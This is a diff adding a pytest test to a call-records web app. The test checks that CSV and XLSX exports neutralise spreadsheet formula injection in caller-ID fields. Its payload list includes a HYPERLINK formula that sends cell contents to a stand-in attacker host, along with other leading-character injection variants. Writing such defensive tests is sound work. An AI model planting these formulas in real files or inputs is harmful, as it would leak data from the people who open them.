@@ -124,6 +124,27 @@ def test_exports_hold_what_the_search_found(client, calls):
     assert values[1][6] == "13700000003"
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+8613800000001", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_exported_cells_never_become_formulas(app, client, user_ids):
+    for i, text in enumerate(FORMULAS):                      # a caller ID is whatever the line sent
+        add_leg(app, caller=text, dialled="4008009999", application="ivr:main", channel=i + 1)
+    login(client, "super")
+    rows = list(csv.DictReader(io.StringIO(client.get("/calls/export.csv?dialled=4008009999")
+                                           .get_data(as_text=True).lstrip("\ufeff"))))
+    assert sorted(row["caller"] for row in rows) == sorted("'" + text for text in FORMULAS)
+    assert {row["dialled"] for row in rows} == {"4008009999"}      # plain values are left alone
+    ws = load_workbook(io.BytesIO(client.get("/calls/export.xlsx?dialled=4008009999").data)).active
+    header = [c.value for c in ws[1]]
+    callers = [row[header.index("caller")] for row in ws.iter_rows(min_row=2)]
+    assert sorted(c.value for c in callers) == sorted(FORMULAS)      # shown exactly as they are ...
+    assert all(c.data_type == "s" and c.quotePrefix for c in callers)  # ... as text, never a formula
+    talk = [row[header.index("talk_ms")] for row in ws.iter_rows(min_row=2)]
+    assert all(c.data_type == "n" for c in talk)
+
+
 def test_an_agents_export_right_is_refused_and_search_is_their_own(app, client, calls):
     login(client, "agent2")
     assert client.get("/calls/export.csv").status_code == 403
